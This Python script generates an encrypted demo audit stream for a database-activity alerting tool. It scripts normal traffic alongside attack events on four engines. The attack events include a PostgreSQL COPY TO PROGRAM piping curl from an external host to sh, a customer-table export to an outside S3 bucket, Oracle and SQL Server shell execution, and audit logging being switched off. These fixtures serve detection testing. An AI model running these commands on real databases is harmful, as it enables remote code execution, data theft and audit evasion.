"""Make the bundled demo stream: ``samples/das-stream.jsonl`` under ``samples/demo.key``.

Run from the repository root: ``python samples/make_stream.py`` (``--check`` only verifies that
the committed stream decodes to exactly this scenario). Every event, timestamp, id and the record
and batch layout are fixed here; only the ciphertext differs between runs, because the Encryption
SDK draws fresh IVs, data keys and signing keys from the OS (as RDS does), so the file is rewritten
only when the scenario changed.

Each line is one Kinesis Lambda event of one stream; the four streams (Aurora PostgreSQL cluster,
Aurora MySQL cluster, RDS for Oracle instance, RDS for SQL Server instance) are interleaved in
time. The scenario is described in ``docs/decoding.md``.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

KEY_PATH = HERE / "demo.key"
STREAM_PATH = HERE / "das-stream.jsonl"
# A public, documented demo key: never use it for anything real.
DEMO_KEY = hashlib.sha256(b"dasalert public demo key - not a secret").digest()

T0 = datetime(2026, 11, 20, 9, 0, 0, tzinfo=UTC)
ATTACKER = "203.0.113.50"  # TEST-NET-3: an external host
ACCOUNT = "123456789012"
REGION = "eu-west-1"

Event = dict[str, Any]


@dataclass
class Stream:
    """One DAS stream: its resource, envelope version and events in time order."""

    engine: str
    resource_id: str
    cluster_id: str
    instance_id: str
    version: str
    events: list[tuple[float, Event]] = field(default_factory=list)
    idle: list[float] = field(default_factory=list)  # times of heartbeat-only records

    def add(self, t: float, event: Event) -> None:
        self.events.append((t, event))


def _ts(t: float, engine: str) -> str:
    d = T0 + timedelta(seconds=t)
    if engine == "oracle":
        return d.strftime("%Y-%m-%d %H:%M:%S.%f")  # no offset: UTC
    if engine == "sqlserver":
        return d.strftime("%Y-%m-%d %H:%M:%S.%f") + "0+00"  # 7 fractional digits
    return d.strftime("%Y-%m-%d %H:%M:%S.%f") + "+00"


# --- Aurora PostgreSQL ----------------------------------------------------------------------


def postgres() -> Stream:
    s = Stream(
        "postgres",
        "cluster-DEMOPG4HNY5V4RRNPKKYB7ICFKE",
        "cluster-DEMOPG4HNY5V4RRNPKKYB7ICFKE",
        "db-DEMOPGFZJTMYKCXQBUUZ6VLU7NW3",
        "1.1",
    )
    stmt = {"n": 0}

    def ev(t: float, user: str, cls: str, command: str, text: str | None, **kw: Any) -> None:
        stmt["n"] += 1
        e = {
            "startTime": _ts(t - 0.004, "postgres"),
            "logTime": _ts(t, "postgres"),
            "statementId": kw.get("stmt", stmt["n"]),
            "substatementId": 1,
            "objectType": kw.get("obj_type"),
            "command": command,
            "objectName": kw.get("obj"),
            "databaseName": kw.get("db", "orders"),
            "dbUserName": user,
            "remoteHost": kw.get("host", "10.0.12.34"),
            "remotePort": kw.get("port", "51514"),
            "sessionId": kw.get("session", "6745a3f0.1f2c"),
            "rowCount": kw.get("rows"),
            "commandText": text,
            "paramList": kw.get("params", []),
            "pid": kw.get("pid", 7980),
            "clientApplication": kw.get("app", "orders-api"),
            "exitCode": kw.get("exit"),
            "class": cls,
            "serverVersion": "15.4.3",
            "serverType": "PostgreSQL",
            "serviceName": "Amazon Aurora PostgreSQL-Compatible edition",
            "serverHost": "10.0.0.21",
            "netProtocol": "TCP",
            "dbProtocol": "Postgres 3.0",
            "type": "record",
            "errorMessage": kw.get("err"),
        }
        s.add(t, e)

    # Normal application traffic.
    ev(1.0, "app_orders", "MISC", "CONNECT", None, stmt=1)
    ev(
        1.2,
        "app_orders",
        "READ",
        "SELECT",
        "SELECT id, status FROM public.orders WHERE customer_id = $1",
        rows=3,
        obj_type="TABLE",
        obj="public.orders",
        params=["48213"],
    )
    ev(
        1.5,
        "app_orders",
        "WRITE",
        "INSERT",
        "INSERT INTO public.orders (customer_id, total) VALUES ($1, $2)",
        rows=0,
        obj_type="TABLE",
        obj="public.orders",
        params=["48213", "129.90"],
    )
    ev(
        1.7,
        "app_orders",
        "WRITE",
        "UPDATE",
        "UPDATE public.orders SET status = 'paid' WHERE id = $1",
        rows=0,
        obj_type="TABLE",
        obj="public.orders",
        params=["90017"],
    )
    ev(2.0, "app_orders", "MISC", "DISCONNECT", None)
    # Admin activity (RDS automation): must stay quiet.
    admin = {
        "host": "127.0.0.1",
        "port": "40112",
        "session": "6745a400.2a01",
        "pid": 10753,
        "app": "rdsadmin",
        "db": "rdsadmin",
    }
    ev(20.0, "rdsadmin", "MISC", "CONNECT", None, stmt=1, **admin)
    ev(20.1, "rdsadmin", "READ", "SELECT", "SELECT pg_catalog.pg_is_in_recovery()", rows=1, **admin)
    ev(
        20.2,
        "rdsadmin",
        "DDL",
        "CREATE TABLE",
        "CREATE TABLE IF NOT EXISTS rds_tools.replication_status (id int primary key, lag bigint)",
        obj_type="TABLE",
        obj="rds_tools.replication_status",
        **admin,
    )
    ev(20.3, "rdsadmin", "MISC", "DISCONNECT", None, **admin)
    s.idle.append(45.0)
    # Attack 1: password guessing from an external host, 8 failures in 84 s.
    for i in range(8):
        ev(
            60.0 + 12 * i,
            "postgres",
            "MISC",
            "AUTH FAILURE",
            None,
            stmt=1,
            host=ATTACKER,
            port=str(40000 + i),
            session=f"6745a43c.{0x3000 + i:x}",
            pid=11000 + i,
            app="",
            db="postgres",
            exit="28P01",
            err='password authentication failed for user "postgres"',
        )
    # Attack 5: the guessing worked. The attacker logs in as the master user, runs a shell
    # command through COPY ... PROGRAM and switches the audit log off.
    hit = {
        "host": ATTACKER,
        "port": "40108",
        "session": "6745a44a.4001",
        "pid": 11100,
        "app": "psql",
        "db": "postgres",
    }
    ev(150.0, "postgres", "MISC", "CONNECT", None, stmt=1, **hit)
    ev(
        152.0,
        "postgres",
        "READ",
        "COPY",
        f"COPY (SELECT '') TO PROGRAM 'curl -s http://{ATTACKER}/x.sh | sh'",
        **hit,
    )
    ev(155.0, "postgres", "MISC", "ALTER SYSTEM", "ALTER SYSTEM SET pgaudit.log = 'none'", **hit)
    ev(158.0, "postgres", "MISC", "DISCONNECT", None, **hit)
    # Attacks 2-4 by the application account (stolen credentials): DDL, bulk read, password.
    sess = {
        "session": "6745a4b2.3f10",
        "pid": 12040,
        "app": "psql",
        "host": "10.0.12.99",
        "port": "52020",
    }
    ev(200.0, "app_orders", "MISC", "CONNECT", None, stmt=1, **sess)
    ev(
        201.0,
        "app_orders",
        "DDL",
        "CREATE TABLE",
        "CREATE TABLE public.tmp_export (id bigint, email text, card_last4 text)",
        obj_type="TABLE",
        obj="public.tmp_export",
        **sess,
    )
    ev(
        205.0,
        "app_orders",
        "READ",
        "SELECT",
        "SELECT * FROM public.customers",
        rows=250000,
        obj_type="TABLE",
        obj="public.customers",
        **sess,
    )
    ev(
        230.0,
        "app_orders",
        "DDL",
        "DROP TABLE",
        "DROP TABLE public.tmp_export",
        obj_type="TABLE",
        obj="public.tmp_export",
        **sess,
    )
    ev(
        240.0,
        "app_orders",
        "ROLE",
        "ALTER ROLE",
        "ALTER ROLE app_orders WITH PASSWORD 'Orders-Spring-2026!'",
        **sess,
    )
    ev(241.0, "app_orders", "MISC", "DISCONNECT", None, **sess)
    s.idle.append(280.0)
    return s


# --- Aurora MySQL ---------------------------------------------------------------------------


def mysql() -> Stream:
    s = Stream(
        "mysql",
        "cluster-DEMOMYB6K6E4422P5KM33ZF7GCJ",
        "cluster-DEMOMYB6K6E4422P5KM33ZF7GCJ",
        "db-DEMOMYQ7H2LW3XKT5ZJ4N6PRV8SM",
        "1.2",
    )
    stmt = {"n": 17900}

    def base(t: float, user: str, command: str, text: str, cls: str, **kw: Any) -> Event:
        return {
            "logTime": _ts(t, "mysql"),
            "type": "record",
            "clientApplication": None,
            "pid": kw.get("pid", 257),
            "dbUserName": user,
            "databaseName": kw.get("db", "shop"),
            "remoteHost": kw.get("host", "10.0.21.7"),
            "remotePort": kw.get("port", "5257"),
            "command": command,
            "commandText": text,
            "paramList": None,
            "objectType": "TABLE",
            "objectName": kw.get("obj", ""),
            "statementId": kw.get("stmt", 0),
            "substatementId": kw.get("sub", 1),
            "exitCode": kw.get("exit", "0"),
            "sessionId": kw.get("session", "1003"),
            "rowCount": kw.get("rows", 0),
            "serverHost": "shop-db-instance-1",
            "serverType": "MySQL",
            "serviceName": "Amazon Aurora MySQL",
            "serverVersion": "8.0.mysql_aurora.3.05.2",
            "startTime": _ts(t - 0.0002, "mysql"),
            "endTime": _ts(t + 0.000001, "mysql"),
            "transactionId": kw.get("txn", "0"),
            "dbProtocol": "MySQL",
            "netProtocol": "TCP",
            "errorMessage": kw.get("err", ""),
            "class": cls,
        }

    def conn(t: float, user: str, command: str = "CONNECT", **kw: Any) -> None:
        s.add(t, base(t, user, command, "", "MAIN", **kw))

    def query(t: float, user: str, text: str, aux: list[tuple[str, str]], **kw: Any) -> None:
        """A MAIN QUERY row plus one AUX row per object touched (logged just before MAIN)."""
        stmt["n"] += 1
        kw["stmt"] = stmt["n"]
        akw = {k: v for k, v in kw.items() if k not in ("rows", "exit", "err")}
        for i, (op, obj) in enumerate(aux):
            ta = t - 0.000003
            s.add(ta, base(ta, user, op, obj, "AUX", sub=2 + i, obj=obj, rows=0, exit="", **akw))
        s.add(t, base(t, user, "QUERY", text, "MAIN", obj=aux[0][1] if aux else "", **kw))

    conn(3.0, "app_web")
    query(
        3.1,
        "app_web",
        "SELECT `id`, `name`, `price` FROM `shop`.`products` WHERE `id` = 77",
        [("READ", "products")],
        rows=1,
    )
    query(
        3.3,
        "app_web",
        "INSERT INTO `shop`.`cart_items` (`cart_id`, `product_id`, `qty`) VALUES (5521, 77, 1)",
        [("WRITE", "cart_items")],
        txn="1640266",
    )
    query(
        3.4,
        "app_web",
        "UPDATE `shop`.`carts` SET `updated_at` = NOW() WHERE `id` = 5521",
        [("WRITE", "carts")],
        txn="1640267",
    )
    conn(3.6, "app_web", "DISCONNECT")
    # Admin activity (RDS automation): must stay quiet.
    admin = {"host": "localhost", "port": "11053", "session": "725121", "pid": 2830, "db": ""}
    conn(30.0, "rdsadmin", **admin)
    query(30.1, "rdsadmin", "SELECT @@session.transaction_read_only", [], **admin)
    query(
        30.2,
        "rdsadmin",
        "UPDATE mysql.rds_heartbeat2 SET value = 1795165230000 WHERE id = 1",
        [("WRITE", "rds_heartbeat2")],
        **{**admin, "db": "mysql"},
    )
    query(
        30.3,
        "rdsadmin",
        "CREATE TABLE IF NOT EXISTS mysql.rds_replication_status (id INT PRIMARY KEY)",
        [("CREATE", "rds_replication_status")],
        **{**admin, "db": "mysql"},
    )
    conn(30.4, "rdsadmin", "DISCONNECT", **admin)
    s.idle.append(50.0)
    # Attack 1: 7 failed logins for 'admin' from an external host within 60 s.
    for i in range(7):
        conn(
            70.0 + 10 * i,
            "admin",
            "FAILED_CONNECT",
            host=ATTACKER,
            port=str(41000 + i),
            session=str(726000 + i),
            pid=2900 + i,
            db="",
            exit="1045",
            err=f"Access denied for user 'admin'@'{ATTACKER}' (using password: YES)",
        )
    # Attacks 2-4 by the application account.
    sess = {"session": "1187", "pid": 3101, "host": "10.0.21.88", "port": "6112"}
    conn(300.0, "app_web", **sess)
    query(
        301.0,
        "app_web",
        "CREATE TABLE `shop`.`tmp_dump` (`id` INT, `payload` TEXT)",
        [("CREATE", "tmp_dump")],
        **sess,
    )
    query(
        305.0,
        "app_web",
        "SELECT * FROM `shop`.`customers`",
        [("READ", "customers")],
        rows=250000,
        **sess,
    )
    query(  # attack 5: the customers table exported to a bucket that is not the site's
        320.0,
        "app_web",
        "SELECT * FROM `shop`.`customers` INTO OUTFILE S3 "
        "'s3-eu-west-1://exfil-drop-7731/customers' FORMAT CSV",
        [("READ", "customers")],
        **sess,
    )
    query(330.0, "app_web", "DROP TABLE `shop`.`tmp_dump`", [("DROP", "tmp_dump")], **sess)
    query(340.0, "app_web", "SET PASSWORD = 'Web-Autumn-2026!'", [], **sess)
    query(341.0, "app_web", "CREATE USER 'svc_tmp'@'%' IDENTIFIED BY 'Tmp-Pass-2026'", [], **sess)
    conn(342.0, "app_web", "DISCONNECT", **sess)
    return s


# --- RDS for Oracle -------------------------------------------------------------------------


def oracle() -> Stream:
    s = Stream(
        "oracle", "db-DEMOOR7AVLVCHCUTSHSLFPSBM7T", "", "db-DEMOOR7AVLVCHCUTSHSLFPSBM7T", "1.3"
    )

    def ev(t: float, user: str, command: str, text: str | None, **kw: Any) -> None:
        host = kw.get("host", "10.0.31.5")
        # No "type": Oracle events may come without one (a missing type is a record).
        s.add(
            t,
            {
                "class": kw.get("cls", "Standard"),
                "clientApplication": kw.get("app", "JDBC Thin Client"),
                "command": command,
                "commandText": text,
                "dbid": "1559470382",
                "databaseName": "ORCL",
                "dbProtocol": "oracle",
                "dbUserName": user,
                "endTime": None,
                "errorMessage": None,
                "exitCode": kw.get("exit", 0),
                "logTime": _ts(t, "oracle"),
                "netProtocol": "tcp",
                "objectName": kw.get("obj"),
                "objectType": kw.get("schema"),
                "paramList": [],
                "pid": kw.get("pid", 17904),
                "remoteHost": host,
                "remotePort": kw.get("port", "25440"),
                "rowCount": None,  # Oracle never reports row counts
                "serverHost": "10.0.0.5",
                "serverType": "oracle",
                "serverVersion": "19.0.0.0.ru-2026-07.rur-2026-07.r1.EE.1",
                "serviceName": "oracle-ee",
                "sessionId": kw.get("session", 987654321),
                "startTime": None,
                "statementId": kw.get("stmt", 1),
                "substatementId": None,
                "transactionId": kw.get("txn", "0000000000000000"),
                "engineNativeAuditFields": {
                    "UNIFIED_AUDIT_POLICIES": kw.get("policy", "DAS_POL_ALL"),
                    "SYSTEM_PRIVILEGE_USED": kw.get("priv"),
                    "AUTHENTICATION_TYPE": (
                        "(TYPE=(DATABASE));(CLIENT ADDRESS=((ADDRESS=(PROTOCOL=tcp)"
                        f"(HOST={host})(PORT={kw.get('port', '25440')}))));"
                    ),
                    "USERHOST": kw.get("userhost", "hr-app-01.corp.example.com"),
                    "TERMINAL": "unknown",
                    "OS_USERNAME": kw.get("osuser", "hrapp"),
                },
            },
        )

    ev(5.0, "APP_HR", "LOGON", None, priv="CREATE SESSION")
    ev(
        5.2,
        "APP_HR",
        "SELECT",
        "SELECT EMPLOYEE_ID, SALARY FROM APP_HR.EMPLOYEES WHERE DEPT_ID = :1",
        obj="EMPLOYEES",
        schema="APP_HR",
        stmt=2,
    )
    ev(
        5.4,
        "APP_HR",
        "INSERT",
        "INSERT INTO APP_HR.TIMESHEETS (EMPLOYEE_ID, HOURS) VALUES (:1, :2)",
        obj="TIMESHEETS",
        schema="APP_HR",
        stmt=3,
        txn="0A0012000B4C0000",
    )
    ev(
        5.5,
        "APP_HR",
        "UPDATE",
        "UPDATE APP_HR.EMPLOYEES SET PHONE = :1 WHERE EMPLOYEE_ID = :2",
        obj="EMPLOYEES",
        schema="APP_HR",
        stmt=4,
        txn="0A0012000B4C0000",
    )
    ev(5.8, "APP_HR", "LOGOFF", None, stmt=5)
    # Admin activity (RDS automation): must stay quiet.
    admin = {
        "host": "127.0.0.1",
        "port": "0",
        "session": 1820334,
        "pid": 3301,
        "app": "sqlplus@ip-10-0-0-5 (TNS V1-V3)",
        "userhost": "ip-10-0-0-5",
        "osuser": "rdsdb",
    }
    ev(40.0, "RDSADMIN", "LOGON", None, priv="CREATE SESSION", **admin)
    ev(
        40.1,
        "RDSADMIN",
        "SELECT",
        "SELECT STATUS FROM V$INSTANCE",
        obj="V_$INSTANCE",
        schema="SYS",
        stmt=2,
        **admin,
    )
    ev(
        40.2,
        "RDSADMIN",
        "CREATE TABLE",
        "CREATE TABLE RDSADMIN.RDS_SNAPSHOT_STATUS (ID NUMBER PRIMARY KEY)",
        obj="RDS_SNAPSHOT_STATUS",
        schema="RDSADMIN",
        stmt=3,
        **admin,
    )
    ev(40.3, "RDSADMIN", "LOGOFF", None, stmt=4, **admin)
    s.idle.append(55.0)
    # Attack 1: 6 failed logons as SYSTEM from an external host within 75 s (ORA-01017).
    for i in range(6):
        ev(
            80.0 + 15 * i,
            "SYSTEM",
            "LOGON",
            None,
            exit=1017,
            host=ATTACKER,
            port=str(42000 + i),
            session=990000 + i,
            pid=18000 + i,
            app="sqlplus",
            userhost="kali",
            osuser="root",
            stmt=1,
        )
    # Attacks 2-4 by the application schema.
    sess = {
        "session": 987700111,
        "pid": 18110,
        "host": "10.0.31.77",
        "port": "25901",
        "app": "SQL Developer",
        "userhost": "laptop-417",
        "osuser": "jdoe",
    }
    ev(400.0, "APP_HR", "LOGON", None, priv="CREATE SESSION", **sess)
    ev(
        401.0,
        "APP_HR",
        "CREATE TABLE",
        "CREATE TABLE APP_HR.EXPORT_TMP (ID NUMBER, DATA CLOB)",
        obj="EXPORT_TMP",
        schema="APP_HR",
        stmt=2,
        priv="CREATE TABLE",
        **sess,
    )
    ev(
        405.0,
        "APP_HR",
        "SELECT",
        "SELECT * FROM APP_HR.EMPLOYEES",
        obj="EMPLOYEES",
        schema="APP_HR",
        stmt=3,
        **sess,
    )
    ev(  # attack 5: an operating-system command through an external scheduler job
        420.0,
        "APP_HR",
        "EXECUTE",
        "BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name => 'HR_SYNC', job_type => 'EXECUTABLE', "
        "job_action => '/bin/sh', number_of_arguments => 2, enabled => FALSE); END;",
        obj="DBMS_SCHEDULER",
        schema="SYS",
        stmt=8,
        **sess,
    )
    ev(
        430.0,
        "APP_HR",
        "DROP TABLE",
        "DROP TABLE APP_HR.EXPORT_TMP PURGE",
        obj="EXPORT_TMP",
        schema="APP_HR",
        stmt=4,
        **sess,
    )
    ev(
        440.0,
        "APP_HR",
        "CREATE USER",
        'CREATE USER BACKUP_SVC IDENTIFIED BY "Hr-Backup-2026"',
        obj="BACKUP_SVC",
        stmt=5,
        priv="CREATE USER",
        **sess,
    )
    ev(
        441.0,
        "APP_HR",
        "ALTER USER",
        "ALTER USER APP_HR IDENTIFIED BY NewHrPass2026",
        obj="APP_HR",
        stmt=6,
        **sess,
    )
    ev(442.0, "APP_HR", "LOGOFF", None, stmt=7, **sess)
    return s


# --- RDS for SQL Server ---------------------------------------------------------------------


def sqlserver() -> Stream:
    s = Stream(
        "sqlserver", "db-DEMOSQ4JCWQLUZVFYP7DIWP6JVQ", "", "db-DEMOSQ4JCWQLUZVFYP7DIWP6JVQ", "1.4"
    )
    n = {"stmt": 0}

    def ev(t: float, user: str, cls: str, command: str, text: str | None, **kw: Any) -> None:
        n["stmt"] += 1
        digest = hashlib.md5(f"{t}{command}".encode(), usedforsecurity=False).hexdigest()
        s.add(
            t,
            {
                "class": cls,
                "clientApplication": kw.get("app", "Core Microsoft SqlClient Data Provider"),
                "command": command,
                "commandText": text,
                "databaseName": kw.get("db", "billing"),
                "dbProtocol": "SQLSERVER",
                "dbUserName": user,
                "endTime": None,
                "errorMessage": None,
                "exitCode": kw.get("exit", 1),  # 1 = success, 0 = failure
                "logTime": _ts(t, "sqlserver"),
                "netProtocol": None,
                "objectName": kw.get("obj", ""),
                "objectType": kw.get("obj_type", ""),
                "paramList": None,
                "pid": None,
                "remoteHost": kw.get("host", "10.0.41.9"),
                "remotePort": None,
                "rowCount": kw.get("rows", 0),
                "serverHost": "172.31.30.159",
                "serverType": "SQLSERVER",
                "serverVersion": "15.00.4385.2.v1",
                "serviceName": "sqlserver-se",
                "sessionId": kw.get("session", 61),
                "startTime": None,
                "statementId": "0x" + digest,
                "substatementId": 1,
                "transactionId": kw.get("txn", "0"),
                "type": "record",
                "engineNativeAuditFields": {
                    "server_instance_name": "EC2AMAZ-DEMO42",
                    "host_name": kw.get("client_host", "BILLING-APP-01"),
                    "session_server_principal_name": user,
                    "server_principal_id": kw.get("principal", 267),
                    "schema_name": kw.get("schema", ""),
                    "response_rows": kw.get("rows", 0),
                    "duration_milliseconds": kw.get("ms", 1),
                    "additional_information": kw.get("info", ""),
                    "connection_id": kw.get("conn", "6E1F0C2A-41B7-4C56-9D0B-2F5D3A9E8C11"),
                    "audit_schema_version": 1,
                },
            },
        )

    ev(
        7.0,
        "app_billing",
        "LOGIN",
        "LOGIN SUCCEEDED",
        "Login succeeded for user 'app_billing'.",
        obj_type="LOGIN",
        db="",
    )
    ev(
        7.2,
        "app_billing",
        "TABLE",
        "SELECT",
        "SELECT InvoiceId, Amount FROM dbo.Invoices WHERE CustomerId = @p0",
        rows=4,
        obj="Invoices",
        obj_type="TABLE",
        schema="dbo",
    )
    ev(
        7.4,
        "app_billing",
        "TABLE",
        "INSERT",
        "INSERT INTO dbo.Payments (InvoiceId, Amount) VALUES (@p0, @p1)",
        rows=1,
        obj="Payments",
        obj_type="TABLE",
        schema="dbo",
        txn="4561864",
    )
    ev(
        7.5,
        "app_billing",
        "TABLE",
        "UPDATE",
        "UPDATE dbo.Invoices SET Status = N'PAID' WHERE InvoiceId = @p0",
        rows=1,
        obj="Invoices",
        obj_type="TABLE",
        schema="dbo",
        txn="4561864",
    )
    ev(7.9, "app_billing", "LOGIN", "LOGOUT", None, obj_type="LOGIN", db="")
    # Admin activity (the RDS automation login 'rdsa'): must stay quiet.
    admin = {
        "host": "local machine",
        "session": 52,
        "app": "RDS Agent",
        "client_host": "EC2AMAZ-DEMO42",
        "principal": 259,
        "conn": "0B7E5F9C-2D44-4E1A-8C3B-6A0F1E2D3C4B",
    }
    ev(
        35.0,
        "rdsa",
        "LOGIN",
        "LOGIN SUCCEEDED",
        "Login succeeded for user 'rdsa'.",
        obj_type="LOGIN",
        db="",
        **admin,
    )
    ev(
        35.1,
        "rdsa",
        "TABLE",
        "SELECT",
        "SELECT name, state_desc FROM sys.databases",
        rows=5,
        obj="databases",
        obj_type="TABLE",
        db="master",
        schema="sys",
        **admin,
    )
    ev(
        35.2,
        "rdsa",
        "SCHEMA",
        "ALTER",
        "CREATE TABLE [rdsadmin].[dbo].[rds_backup_status] (id INT PRIMARY KEY)",
        obj="dbo",
        obj_type="SCHEMA",
        db="rdsadmin",
        schema="dbo",
        **admin,
    )
    ev(35.3, "rdsa", "LOGIN", "LOGOUT", None, obj_type="LOGIN", db="", **admin)
    s.idle.append(60.0)
    # Attack 1: 9 failed logins for 'sa' from an external host within 80 s (exitCode 0).
    for i in range(9):
        ev(
            90.0 + 10 * i,
            "sa",
            "LOGIN",
            "LOGIN FAILED",
            f"Login failed for user 'sa'. Reason: Password did not match that for the login "
            f"provided. [CLIENT: {ATTACKER}]",
            exit=0,
            obj_type="LOGIN",
            db="",
            host=ATTACKER,
            session=0,
            app="",
            client_host="",
            principal=0,
            conn=f"98B4F537-0F82-49E3-AB08-B9D33B58{0x9E00 + i:04X}",
            info=(
                '<action_info xmlns="http://schemas.microsoft.com/sqlserver/2008/sqlaudit_data">'
                "<pooled_connection>0</pooled_connection><error>0x00004818</error><state>8</state>"
                f"<address>{ATTACKER}</address></action_info>"
            ),
        )
    # Attacks 2-4 by the application login.
    sess = {
        "session": 73,
        "host": "10.0.41.66",
        "app": "Microsoft SQL Server Management Studio",
        "client_host": "LAPTOP-417",
        "conn": "3C9A7D21-5E8F-4B60-A1D2-7F3E9B0C4D55",
    }
    ev(
        500.0,
        "app_billing",
        "LOGIN",
        "LOGIN SUCCEEDED",
        "Login succeeded for user 'app_billing'.",
        obj_type="LOGIN",
        db="",
        **sess,
    )
    ev(
        501.0,
        "app_billing",
        "SCHEMA",
        "ALTER",
        "CREATE TABLE [billing].[dbo].[tmp_cards] (CardNumber varchar(19), Expiry char(5))",
        obj="dbo",
        obj_type="SCHEMA",
        schema="dbo",
        **sess,
    )
    ev(
        505.0,
        "app_billing",
        "TABLE",
        "SELECT",
        "SELECT * FROM dbo.Customers",
        rows=250000,
        obj="Customers",
        obj_type="TABLE",
        schema="dbo",
        ms=4180,
        **sess,
    )
    # Attack 5: xp_cmdshell switched on and used, then the server audit specification off.
    ev(
        510.0,
        "app_billing",
        "EXTENDED STORED PROCEDURE",
        "EXECUTE",
        "EXEC xp_cmdshell 'whoami /all'",
        obj="xp_cmdshell",
        obj_type="EXTENDED STORED PROCEDURE",
        db="master",
        schema="sys",
        **sess,
    )
    ev(
        515.0,
        "app_billing",
        "SERVER AUDIT SPECIFICATION",
        "ALTER",
        "ALTER SERVER AUDIT SPECIFICATION [RDS_DAS_SERVER_AUDIT_SPEC] WITH (STATE = OFF)",
        obj="RDS_DAS_SERVER_AUDIT_SPEC",
        obj_type="SERVER AUDIT SPECIFICATION",
        db="master",
        **sess,
    )
    ev(
        530.0,
        "app_billing",
        "TABLE",
        "DROP",
        "DROP TABLE [billing].[dbo].[tmp_cards]",
        obj="tmp_cards",
        obj_type="TABLE",
        schema="dbo",
        **sess,
    )
    ev(
        540.0,
        "app_billing",
        "LOGIN",
        "ALTER",
        "ALTER LOGIN app_billing WITH PASSWORD = 'Billing-Q4-2026!' OLD_PASSWORD = 'Billing-Q3'",
        obj="app_billing",
        obj_type="SQL LOGIN",
        db="master",
        **sess,
    )
    ev(541.0, "app_billing", "LOGIN", "LOGOUT", None, obj_type="LOGIN", db="", **sess)
    return s


STREAMS: tuple[Callable[[], Stream], ...] = (postgres, mysql, oracle, sqlserver)
EVENTS_PER_RECORD = 6
RECORDS_PER_BATCH = 3
RECORDS_PER_KEY = 4  # RDS reuses a data key for consecutive records


@dataclass
class Record:
    t: float
    events: list[Event]
    heartbeats: int


def records(stream: Stream) -> list[Record]:
    """Group a stream's events into records: at most EVENTS_PER_RECORD events, split at idle
    gaps; a heartbeat-only record at each idle time, and one heartbeat in every third record."""
    out: list[Record] = []
    chunk: list[tuple[float, Event]] = []
    marks = sorted(stream.idle)

    def flush() -> None:
        if chunk:
            hb = 1 if len(out) % 3 == 2 else 0
            out.append(Record(chunk[0][0], [e for _, e in chunk], hb))
            chunk.clear()

    for t, e in sorted(stream.events, key=lambda te: te[0]):
        while marks and marks[0] <= t:
            flush()
            out.append(Record(marks.pop(0), [], 2))
        if chunk and (len(chunk) >= EVENTS_PER_RECORD or t - chunk[-1][0] > 5):
            flush()
        chunk.append((t, e))
    flush()
    for m in marks:
        out.append(Record(m, [], 2))
    return out


@dataclass
class Batch:
    t: float
    stream: Stream
    records: list[Record]


def batches() -> list[Batch]:
    """All batches of all streams, in time order (a merged capture of the four streams)."""
    out: list[Batch] = []
    for make in STREAMS:
        s = make()
        recs = records(s)
        for i in range(0, len(recs), RECORDS_PER_BATCH):
            group = recs[i : i + RECORDS_PER_BATCH]
            out.append(Batch(group[0].t, s, group))
    out.sort(key=lambda b: (b.t, b.stream.engine))
    return out


def build_lines() -> Iterator[str]:
    from engine.das.encoder import Encoder, kinesis_event, stream_arn
    from engine.das.keys import LocalKeyProvider

    keys = LocalKeyProvider(DEMO_KEY)
    encoders: dict[str, Encoder] = {}
    seqs: dict[str, int] = {}
    for b in batches():
        s = b.stream
        enc = encoders.setdefault(
            s.resource_id, Encoder(keys, s.resource_id, records_per_key=RECORDS_PER_KEY)
        )
        payloads = [
            enc.encode(
                r.events,
                cluster_id=s.cluster_id,
                instance_id=s.instance_id,
                version=s.version,
                heartbeats=r.heartbeats,
            )
            for r in b.records
        ]
        seq = seqs.get(s.resource_id, 49650000000000000000000000000000000000000000000000000000)
        seqs[s.resource_id] = seq + len(payloads)
        arn = stream_arn(s.resource_id, region=REGION, account=ACCOUNT)
        event = kinesis_event(
            payloads, arn, first_sequence=seq, arrival=(T0 + timedelta(seconds=b.t + 1)).timestamp()
        )
        yield json.dumps(event, separators=(",", ":"))


def expected() -> list[tuple[str, int, list[Event]]]:
    """(resource id, heartbeats, events) per record, in file order: what decoding must give."""
    return [(b.stream.resource_id, r.heartbeats, r.events) for b in batches() for r in b.records]


def decoded(path: Path, key: Path) -> list[tuple[str, int, list[Event]]]:
    from engine.das.decoder import Decoder
    from engine.das.keys import LocalKeyProvider
    from engine.das.sources import iter_records_from_file, resource_id_from_arn

    decoder = Decoder(LocalKeyProvider.from_file(key))
    out = []
    for rec in iter_records_from_file(path):
        d = decoder.decode(rec)
        out.append((resource_id_from_arn(rec.stream_arn) or "", d.heartbeats, d.events))
    return out


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--check", action="store_true", help="verify only; exit 1 if out of date")
    p.add_argument("--force", action="store_true", help="rewrite even if up to date")
    args = p.parse_args(argv)
    want = expected()
    current = None
    if STREAM_PATH.exists() and KEY_PATH.exists():
        try:
            current = decoded(STREAM_PATH, KEY_PATH)
        except Exception as exc:  # any failure means: out of date
            print(f"current stream does not decode: {exc}", file=sys.stderr)
    up_to_date = current == want
    if args.check:
        print("up to date" if up_to_date else "OUT OF DATE: run python samples/make_stream.py")
        return 0 if up_to_date else 1
    if up_to_date and not args.force:
        print(f"{STREAM_PATH.name} is up to date ({len(want)} records)")
        return 0
    KEY_PATH.write_text(DEMO_KEY.hex() + "\n")
    STREAM_PATH.write_text("".join(line + "\n" for line in build_lines()))
    n_events = sum(len(e) for _, _, e in want)
    print(
        f"wrote {STREAM_PATH.name}: {len(want)} records, {n_events} events, "
        f"{STREAM_PATH.stat().st_size} bytes"
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
